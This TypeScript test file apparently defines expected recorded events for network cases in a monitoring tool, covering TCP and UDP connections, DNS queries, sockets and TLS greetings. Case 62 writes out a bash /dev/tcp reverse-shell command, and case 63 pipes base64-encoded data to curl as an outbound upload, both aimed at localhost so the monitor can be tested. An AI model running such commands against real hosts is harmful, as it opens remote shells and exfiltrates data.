import { type CaseContext, life, made, named, type RecallCase } from "./expect.ts";
import { type Fact, fact } from "./fact.ts";
import { FACT_CLASSES } from "./observed.ts";

const OPEN = "127.0.0.1:21000";
const CLOSED = "127.0.0.1:21001";
const FULL = "127.0.0.1:21002";
const TLS = "127.0.0.1:21443";
/** An IPv4 address on an IPv6 socket, always in this one form. */
const MAPPED = "[::ffff:127.0.0.1]:21004";

/** Cases 45–63: connections, datagrams, names. */
export const NETWORK_CASES: readonly RecallCase[] = [
  {
    number: 45,
    title: "connections that work",
    program: "connect",
    bulk: true,
    once: () => listening("tcp", OPEN),
    each: () => talked("tcp", OPEN, "127.0.0.1"),
  },
  {
    number: 46,
    title: "refused",
    program: "refused",
    bulk: true,
    each: () => [connect("tcp", CLOSED, "refused", "ECONNREFUSED")],
  },
  {
    number: 46,
    title: "unreachable",
    program: "unreachable",
    each: (i) => [connect("tcp", `192.0.2.${1 + (i % 250)}:443`, "unreachable", "ENETUNREACH")],
  },
  {
    number: 46,
    title: "no answer",
    program: "timeout",
    atMost: 50,
    classes: ["process", "file", "security", "network"],
    once: full,
    each: () => [connect("tcp", FULL, "timeout", "ETIMEDOUT")],
  },
  {
    number: 47,
    title: "given up while in progress",
    program: "aborted",
    once: full,
    each: () => [connect("tcp", FULL, "in-progress")],
  },
  {
    number: 48,
    title: "reset at once",
    program: "reset",
    bulk: true,
    once: () => listening("tcp", OPEN),
    each: () => [connect("tcp", OPEN, "connected"), closed("tcp", "127.0.0.1:*", OPEN, 0, 0)],
    // The other end may be reset before it is taken, or be taken and not be closed at the program's end.
    open: (one) => one.startsWith("net.accept ") || one.includes(`"local":"${OPEN}","remote"`),
  },
  {
    number: 49,
    title: "UDP, each to another address",
    program: "sendto",
    bulk: true,
    once: udp,
    each: (i) => [sent(`127.1.${place(i)}:21003`, 8)],
  },
  {
    number: 50,
    title: "UDP, connected",
    program: "connected-udp",
    once: udp,
    each: (i) => {
      const remote = `127.2.${place(i)}:21003`;
      return [connect("udp", remote, "connected"), sent(remote, 7), sent(remote, 5)];
    },
  },
  {
    number: 50,
    title: "sendmmsg",
    program: "sendmmsg",
    once: udp,
    each: (i) => [3, 4, 5].map((net) => sent(`127.${net}.${place(i)}:21003`, net)),
  },
  {
    number: 51,
    title: "QUIC",
    program: "quic",
    each: () => [sent("127.0.0.1:443", 1200)],
    mayStayUnseen: "the name inside the encrypted Initial; the datagram itself is seen",
  },
  {
    number: 52,
    title: "DNS without an answer",
    program: "dns",
    each: dns,
    names: (i, { tag }) => ["A", "TXT", "AAAA"].map((type) => `asked host${i}.${tag}.example.test ${type}`),
  },
  {
    number: 52,
    title: "DNS with an answer, NXDOMAIN",
    program: "ask.py",
    classes: ["network"],
    each: (i, { tag }) => [
      ...answered(`known${i}.${tag}.example.test`, "NOERROR", ["192.0.2.7"]),
      ...answered(`missing${i}.${tag}.example.test`, "NXDOMAIN", []),
    ],
    names: (i, { tag }) => [
      `asked known${i}.${tag}.example.test A`,
      `answered known${i}.${tag}.example.test NOERROR 192.0.2.7`,
      `asked missing${i}.${tag}.example.test A`,
      `answered missing${i}.${tag}.example.test NXDOMAIN`,
    ],
  },
  {
    number: 53,
    title: "DNS over TCP, TLS, HTTPS",
    program: "dns-elsewhere",
    each: () => [53, 853, 443].map((port) => connect("tcp", `127.0.0.53:${port}`, "refused", "ECONNREFUSED")),
    mayStayUnseen: "the questions inside TLS and HTTPS; the connections are seen",
  },
  {
    number: 54,
    title: "an address without a name, Node",
    program: "literal.mjs",
    classes: ["network"],
    each: (i) => [connect("tcp", `127.0.4.${1 + (i % 250)}:21012`, "refused", "ECONNREFUSED")],
  },
  {
    number: 55,
    title: "listen and accept",
    program: "connect",
    once: () => listening("tcp", OPEN),
    each: () => talked("tcp", OPEN, "127.0.0.1"),
  },
  {
    number: 56,
    title: "Unix sockets, by path and abstract",
    program: "unix",
    once: () => listening("unix", "unix-listener"),
    each: (i, context) => {
      const abstract = `@abstract-${context.tag}-${i}`;
      return [
        connect("unix", "unix-listener", "connected"),
        ...listening("unix", abstract),
        connect("unix", abstract, "connected"),
      ];
    },
  },
  {
    number: 56,
    title: "a descriptor that is passed through a Unix socket",
    program: "pass-descriptor",
    each: (i, context) => {
      const path = named(context, "passed", i);
      const passed = ["sent", "received"].map((direction) =>
        fact("net.descriptor", { transport: "unix", direction, object: path }),
      );
      return [...made(path, 6), ...passed];
    },
  },
  {
    number: 57,
    title: "raw and packet sockets, refused",
    program: "raw-socket",
    each: () => [
      fact("net.socket", { family: "inet", type: "raw", errno: "EPERM" }),
      fact("net.socket", { family: "packet", type: "raw", errno: "EAFNOSUPPORT" }),
    ],
  },
  {
    number: 58,
    title: "netlink",
    program: "netlink",
    each: () => [fact("net.bind", { transport: "netlink", local: "pid 0 groups 0" })],
  },
  {
    number: 58,
    title: "vsock, refused",
    program: "vsock",
    each: () => [fact("net.socket", { family: "vsock", type: "stream", errno: "EAFNOSUPPORT" })],
  },
  {
    number: 59,
    title: "IPv6, and IPv4 in its clothes",
    program: "connect6",
    once: () => listening("tcp6", "[::]:21004"),
    each: () => [...talked("tcp6", "[::1]:21004", "[::1]"), ...talked("tcp6", MAPPED, "[::ffff:127.0.0.1]")],
  },
  {
    number: 59,
    title: "multicast",
    program: "multicast",
    each: () => [
      fact("net.datagram", {
        transport: "udp",
        direction: "sent",
        remote: "224.0.0.251:5353",
        size_bytes: 5,
        errno: "ENETUNREACH",
      }),
    ],
  },
  {
    number: 60,
    title: "the name in a TLS greeting",
    program: "greet.py",
    classes: ["network"],
    once: () => listening("tcp", TLS),
    each: () => [
      connect("tcp", TLS, "connected"),
      fact("net.accept", { transport: "tcp", local: TLS, remote: "127.0.0.1:*" }),
    ],
    // How long a greeting is depends on the library.
    open: (one) => one.startsWith("net.close "),
    names: (i, { tag }) => [`greeted host${i}.${tag}.example.test`],
    mayStayUnseen: "with encrypted greetings (ECH) the name",
  },
  { number: 61, title: "HTTP through a proxy, a host that is denied", pending: "there is no way out and no proxy yet" },
  {
    number: 62,
    title: "a shell on a connection",
    program: "reverse-shell.sh",
    classes: ["process", "stdio"],
    once: (context) => [life(context, [commandServer(context)], "signal SIGTERM")],
    each: (i, context) => [
      life(
        context,
        [
          {
            exe: "/usr/bin/bash",
            argv: ["bash", "-c", "exec sh >&/dev/tcp/127.0.0.1/21010 0>&1", `${context.tag}-${i}`],
          },
          { exe: "/usr/bin/dash", argv: ["sh"] },
        ],
        "exit 9",
      ),
      ...["input", "output", "errors"].map((name) => fact("process.exec", { argv: ["sh"], [name]: "127.0.0.1:21010" })),
    ],
  },
  {
    number: 63,
    title: "data piped out",
    program: "pipe.sh",
    classes: [...FACT_CLASSES, "stdio"],
    each: pipe,
  },
];

function connect(transport: string, remote: string, outcome: string, errno?: string): Fact {
  return fact("net.connect", { transport, remote, outcome, errno });
}

function listening(transport: string, local: string): Fact[] {
  return [fact("net.bind", { transport, local }), fact("net.listen", { transport, local })];
}

/** Five bytes there, four back, and both ends close. */
function talked(transport: string, server: string, host: string): Fact[] {
  const client = `${host}:*`;
  return [
    connect(transport, server, "connected"),
    fact("net.accept", { transport, local: server, remote: client }),
    closed(transport, client, server, 5, 4),
    closed(transport, server, client, 4, 5),
  ];
}

function closed(transport: string, local: string, remote: string, sentBytes: number, receivedBytes: number): Fact {
  return fact("net.close", { transport, local, remote, bytes_sent: sentBytes, bytes_received: receivedBytes });
}

/** The one connection that fits into the queue lasts until the program ends. */
function full(): Fact[] {
  return [...listening("tcp", FULL), connect("tcp", FULL, "connected"), closed("tcp", "127.0.0.1:*", FULL, 0, 0)];
}

function udp(): Fact[] {
  return [fact("net.bind", { transport: "udp", local: "0.0.0.0:21003" })];
}

function sent(remote: string, sizeBytes: number): Fact {
  return fact("net.datagram", { transport: "udp", direction: "sent", remote, size_bytes: sizeBytes });
}

function place(i: number): string {
  return `${Math.floor(i / 200)}.${1 + (i % 200)}`;
}

function dns(i: number, { tag }: CaseContext): Fact[] {
  const server = "127.0.0.53:53";
  const queries = ["A", "TXT", "AAAA"].map((type) =>
    fact("net.dns-query", { transport: "udp", server, questions: [{ name: `host${i}.${tag}.example.test`, type }] }),
  );
  return [...queries, connect("udp", server, "connected")];
}

function answered(name: string, rcode: string, addresses: readonly string[]): Fact[] {
  const about = { transport: "udp", server: "127.0.0.1:53", questions: [{ name, type: "A" }] };
  const answers = addresses.map((data) => ({ name, type: "A", data }));
  return [fact("net.dns-query", about), fact("net.dns-answer", { ...about, rcode, answers })];
}

function commandServer({ home, tag }: CaseContext) {
  return { exe: "/usr/bin/python3", argv: ["python3", `${home}/scripts/command-server.py`, `server-${tag}`, "21010"] };
}

function pipe(i: number, context: CaseContext): Fact[] {
  const url = `http://127.0.0.1:21011/${context.tag}-${i}`;
  const curl = ["curl", "-s", "-o", "/dev/null", "--data-binary", "@-", url];
  return [
    life(context, [], "exit 0"),
    life(context, [{ exe: "/usr/bin/base64", argv: ["base64", "-w", String(100 + i)] }], "exit 0"),
    life(context, [{ exe: "/usr/bin/curl", argv: curl }], "exit 7"),
    fact("process.exec", { argv: ["base64", "-w", String(100 + i)], output_to: curl }),
    connect("tcp", "127.0.0.1:21011", "refused", "ECONNREFUSED"),
  ];
}
